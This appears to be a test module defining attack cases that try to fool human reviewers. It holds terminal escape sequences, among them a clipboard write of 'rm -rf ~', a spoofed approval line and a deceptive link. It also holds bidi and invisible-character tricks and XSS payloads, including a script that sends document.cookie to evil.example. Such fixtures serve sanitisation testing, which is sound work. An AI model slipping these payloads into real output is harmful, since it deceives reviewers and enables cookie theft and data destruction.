"""Fooling the person who reads: at a terminal, in a notebook, in a browser."""

from __future__ import annotations

from functools import partial
from typing import Final

from escape_suite.judges import scripted, steered
from escape_suite.model import Attack

_terminal = partial(Attack, family="reviewers", judge=steered)
_page = partial(Attack, family="reviewers", judge=scripted)
_SCRIPT: Final = "<script>fetch('//evil.example/' + document.cookie)</script>"
_IMAGE: Final = "<img src=x onerror=alert(1)>"
_NOTHING: Final = "def f(): return 1"


def _printed(text: str) -> str:
    return f"def f(): sys.stdout.write({text!r}); sys.stdout.flush()"


def _raised(text: str) -> str:
    return f"def f(): raise ValueError({text!r})"


ATTACKS: Final = (
    _terminal("colours-and-cleared-screen-in-output", source=_printed("\x1b[2J\x1b[1;31mApproved by the owner\x1b[0m")),
    _terminal("clipboard-by-osc-52", source=_printed("\x1b]52;c;cm0gLXJmIH4=\x07")),
    _terminal("link-by-osc-8", source=_printed("\x1b]8;;https://evil.example\x1b\\p2pgrid.org\x1b]8;;\x1b\\")),
    _terminal("title-of-the-window", source=_printed("\x1b]0;root@bank\x07")),
    _terminal("an-answer-typed-by-the-terminal", source=_printed("\x1b[6n\x1b[c\x1bP+q544e\x1b\\")),
    _terminal("one-byte-controls", source=_printed("\x9b31m\x9d0;x\x9c\x90")),
    _terminal("line-written-over-by-return", source=_printed("print(secret)\rprint('hello')")),
    _terminal("text-taken-back-by-backspace", source=_printed("deny\b\b\b\bapprove\x7f")),
    _terminal("direction-turned-in-output", source=_printed("user\u202enimda\u2066 \u2067 \u061c")),
    _terminal("text-that-is-not-seen", source=_printed("a\u200bb\u2060c\ufeffd\U000e0041\u00ad")),
    _terminal("bells-and-bytes-that-are-no-text", source="def f(): os.write(1, bytes(range(256)) * 3)"),
    _terminal("lines-that-only-unicode-ends", source=_printed("one\u2028two\u2029three\x85four\x0bfive\x0c")),
    _terminal("escapes-in-an-error", source=_raised("\x1b[31mred\x1b[0m\x00 \u202eback")),
    _terminal(
        "escapes-in-the-name-of-an-error",
        source="def f(): raise type('\\x1b[2J\\u202eEvil', (Exception,), {})('x')",
    ),
    _terminal(
        "escapes-in-the-line-of-a-warning",
        source="""
        def f():
            import warnings
            warnings.warn("\\x1b[2J\\u202e", stacklevel=1)
        """,
    ),
    _terminal("escapes-in-the-purpose", source=_NOTHING, fields={"purpose": "\x1b[2Jharmless\r\u202e"}),
    _terminal(
        "escapes-in-the-code", source=_NOTHING, fields={"code": "def f():\n    # \x1b[1A\x1b[2K\u202e\n    return 1"}
    ),
    _terminal(
        "code-that-reads-backwards",
        source=_NOTHING,
        fields={"code": "def f(admin=0):\n    if admin: #\u2066 check\u2069\u2066\u202e\n        return 1"},
    ),
    _terminal("escapes-in-the-functions-name", source=_NOTHING, fields={"name": "f\x1b[2J\u202e"}),
    _terminal("escapes-in-the-requesters-name", source=_NOTHING, fields={"requested_by": "\x1b]0;owner\x07<o@x.org>"}),
    _terminal("escapes-in-a-title", source=_NOTHING, fields={"title": "\x1b[2J\u202eMNIST"}),
    _terminal("escapes-in-the-reason-of-a-failure", source=_NOTHING, fields={"reason": "\x1b[8m hidden \x1b[0m"}),
    _page("script-in-output", source=_printed(_SCRIPT)),
    _page("script-in-an-error", source=_raised(_SCRIPT)),
    _page("script-in-the-purpose", source=_NOTHING, fields={"purpose": _SCRIPT}),
    _page("script-in-the-code", source=_NOTHING, fields={"code": f"def f():\n    return '''</pre>{_SCRIPT}'''"}),
    _page("script-in-the-functions-name", source=_NOTHING, fields={"name": _IMAGE}),
    _page("script-in-the-requesters-name", source=_NOTHING, fields={"requested_by": _IMAGE}),
    _page("script-in-a-title", source=_NOTHING, fields={"title": "</td></table>" + _IMAGE}),
    _page(
        "attributes-that-break-out",
        source=_NOTHING,
        fields={"title": '" onmouseover="alert(1)" \'><svg onload=alert(1)>'},
    ),
    _page("script-in-lines-of-output", source=_printed(f"one\n{_IMAGE}\ntwo")),
)
